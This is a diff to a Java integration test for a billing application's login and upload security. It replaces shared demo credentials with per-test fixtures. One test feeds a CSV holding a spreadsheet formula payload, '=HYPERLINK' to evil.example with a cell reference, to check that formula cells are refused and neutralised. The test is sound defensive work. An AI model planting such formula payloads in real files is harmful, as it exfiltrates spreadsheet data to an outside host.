@@ -22,7 +22,6 @@ import com.bizbill.messaging.SandboxMessageGateway;
 import com.bizbill.shared.error.BizbillException;
 import com.bizbill.shared.error.ErrorCode;
 import com.bizbill.shared.mail.Outbox;
-import com.bizbill.shared.setup.DemoData;
 import com.bizbill.shared.web.Uploads;
 import jakarta.inject.Inject;
 import jakarta.servlet.http.Part;
@@ -71,12 +70,15 @@ class LoginSecurityIT {
 
     @Deployment
     static WebArchive deployment() {
-        return Deployments.application().addClasses(LoginSecurityIT.class, LoginSecurityIT.Web.class, JsfForm.class,
+        return Deployments.application().addClasses(LoginSecurityIT.class, LoginSecurityIT.Web.class, JsfForm.class, Fixtures.class,
                 Deployments.class);
     }
 
     @ArquillianResource
     URL url;
+
+    @Inject
+    Fixtures fixtures;
 
     @Inject
     IdentityService identity;
@@ -254,7 +256,8 @@ class LoginSecurityIT {
         Organisation active = identity.createOrganisation("보안 API " + unique(), OrganisationKind.CUSTOMER);
         String good = identity.issueApiKey(active.getId(), "ok");
         assertFalse(api(good).statusCode() == 401, "control: an active organisation's key is accepted");
-        assertEquals(200, api(DemoData.CUSTOMER_API_KEY).statusCode(), "control: the demo key works");
+        long customerOrg = fixtures.customer(com.bizbill.billing.PaymentMethod.BANK_TRANSFER, "보안", "seck-")[2];
+        assertEquals(200, api(fixtures.apiKey(customerOrg, "control")).statusCode(), "control: a customer's key works");
 
         String masterEmail = "seca-" + unique() + "@example.com";
         masters.sendEmailCode(masterEmail);
@@ -355,7 +358,7 @@ class LoginSecurityIT {
 
         // the bank-statement screen (it had no limit at all): limit + 1 bytes get the field message
         Web staff = new Web(base, null);
-        assertEquals(302, staff.login(DemoData.STAFF_LOGIN, DemoData.STAFF_PASSWORD).statusCode());
+        assertEquals(302, staff.login(fixtures.staff("upload"), Fixtures.STAFF_PASSWORD).statusCode());
         byte[] big = new byte[(int) uploads.limit(Uploads.Kind.DATA_FILE) + 1];
         java.util.Arrays.fill(big, (byte) 'a');
         HttpResponse<String> r = staff.upload("/admin/bank.xhtml", "uploadForm", "uploadForm:statement",
@@ -384,13 +387,14 @@ class LoginSecurityIT {
     @Test
     void issue14AFormulaCellIsNeutralisedInTheImportReport() throws Exception {
         String evil = "=HYPERLINK(\"http://evil.example/\"&A1)" + unique();
+        long account = fixtures.customer(com.bizbill.billing.PaymentMethod.BANK_TRANSFER, "보안", "secf-")[0];
         String file = "청구서번호,청구계정,청구월,발행일,납부기한,서비스,사용기간,공급가액\n"
-                + "\"" + evil.replace("\"", "\"\"") + "\",1,2026-10,not-a-date,2026-10-31,x,2026-10,1\n"
-                + "@SUM(1+1)" + unique() + ",1,2026-10,not-a-date,2026-10-31,x,2026-10,1\n";
+                + "\"" + evil.replace("\"", "\"\"") + "\"," + account + ",2026-10,not-a-date,2026-10-31,x,2026-10,1\n"
+                + "@SUM(1+1)" + unique() + "," + account + ",2026-10,not-a-date,2026-10-31,x,2026-10,1\n";
         ImportRun run = invoiceImport.importFile(file.getBytes(StandardCharsets.UTF_8), "evil.csv", "FILE");
         assertEquals("REFUSED", run.getStatus());
         Web staff = new Web(base, null);
-        assertEquals(302, staff.login(DemoData.STAFF_LOGIN, DemoData.STAFF_PASSWORD).statusCode());
+        assertEquals(302, staff.login(fixtures.staff("report"), Fixtures.STAFF_PASSWORD).statusCode());
         HttpResponse<String> csv = staff.get("/admin/import-report?run=" + run.getId());
         assertEquals(200, csv.statusCode());
         for (String line : csv.body().split("\r?\n")) {
